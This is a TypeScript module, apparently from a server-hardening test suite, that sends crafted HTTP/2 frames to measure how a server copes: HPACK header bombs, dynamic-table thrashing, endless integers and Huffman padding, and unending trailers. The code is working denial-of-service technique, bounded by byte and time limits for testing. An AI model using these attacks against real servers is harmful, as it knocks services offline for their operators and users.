import { END_HEADERS, END_STREAM, FRAME, frame } from '../../../tools/testing/http2-frames.js';
import { closedWithin, isCounted, porchHeaders, rawHttp2 } from '../raw-http2.js';
import type { Attack } from '../row.js';

const FRAME_BYTES = 16_384;
const LIMITS = { bytes: 4 * 2 ** 20, ms: 4_000 } as const;
const lengths = (bytes: number): Buffer =>
  Buffer.from([127, ((bytes - 127) % 128) + 128, Math.floor((bytes - 127) / 128)]);

/** A header for the table: of 4,000 bytes, the name of which is `a`. */
const LARGE = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('a'),
  lengths(4_000),
  Buffer.alloc(4_000, 'x'),
]);
/** The newest entry of the table. */
const NEWEST = 0xbe;

/**
 * What comes of blocks, each the headers of a stream of its own, one after another.
 *
 * @param isBroken whether they end their connection; Node sends a GOAWAY, and leaves the connection to its client.
 */
const blocks =
  (blockOf: (call: Buffer, nth: number) => Buffer, isBroken = false): Attack =>
  async (site, door) => {
    const raw = await rawHttp2(site, door);
    const end = performance.now() + LIMITS.ms;
    for (let nth = 0, sent = 0; !raw.isClosed() && sent < LIMITS.bytes; nth += 1) {
      if (performance.now() > end) break;
      const block = blockOf(porchHeaders(door), nth);
      const head = frame(FRAME.headers, END_HEADERS | END_STREAM, nth * 2 + 1, block);
      sent += await raw.pour(head, { bytes: head.length, ms: 1_000 });
    }
    if (await closedWithin(raw, 500)) return 'closed';
    return isBroken && isCounted(site, door) ? 'open' : 'borne';
  };

/** 16 kB that stand for 48 MB, again and again. */
export const headerBombs = blocks((call) => {
  const rest = FRAME_BYTES - call.length - LARGE.length;
  return Buffer.concat([call, LARGE, Buffer.alloc(rest, NEWEST)]);
});

/** A table that is emptied and filled again by each block. */
export const tableThrash = blocks((call, nth) => {
  const entry = (at: number): Buffer =>
    Buffer.concat([Buffer.from([0x40, 4]), Buffer.from(`t${at % 1_000}`.padEnd(4)), Buffer.of(0)]);
  const entries = Array.from({ length: 100 }, (_, at) => entry(nth + at));
  // Sizes of 0 and 4,096.
  return Buffer.concat([Buffer.from([0x20, 0x3f, 0xe1, 0x1f]), call, ...entries]);
});

/** A number that goes on and on. */
export const endlessNumber = blocks(
  (call) => Buffer.concat([call, Buffer.alloc(1_000, 0xff)]),
  true,
);

/** A text that is nothing but the padding of Huffman's code. */
export const endlessPadding = blocks((call) => {
  const name = Buffer.concat([Buffer.from([0x10, 1]), Buffer.from('a')]);
  return Buffer.concat([call, name, Buffer.of(0xfe), Buffer.alloc(126, 0xff)]);
}, true);

/** `a: a`, which no table keeps. */
const TRAILER = Buffer.from([0x10, 1, 97, 1, 97]);

/** Trailers that do not end. */
export const endlessTrailers: Attack = async (site, door) => {
  const raw = await rawHttp2(site, door);
  raw.socket.write(frame(FRAME.headers, END_HEADERS, 1, porchHeaders(door)));
  raw.socket.write(frame(FRAME.headers, END_STREAM, 1, TRAILER));
  const more = Buffer.concat(Array.from({ length: 200 }, () => TRAILER));
  await raw.pour(frame(FRAME.continuation, 0, 1, more), LIMITS);
  return (await closedWithin(raw, 1_000)) ? 'closed' : 'open';
};

/** Trailers after trailers, none of which is said to be the end. */
export const trailersAgain: Attack = async (site, door) => {
  const raw = await rawHttp2(site, door);
  raw.socket.write(frame(FRAME.headers, END_HEADERS, 1, porchHeaders(door)));
  const trailers = frame(FRAME.headers, END_HEADERS, 1, TRAILER);
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => trailers));
  await raw.pour(many, LIMITS);
  return (await closedWithin(raw, 500)) ? 'closed' : 'borne';
};
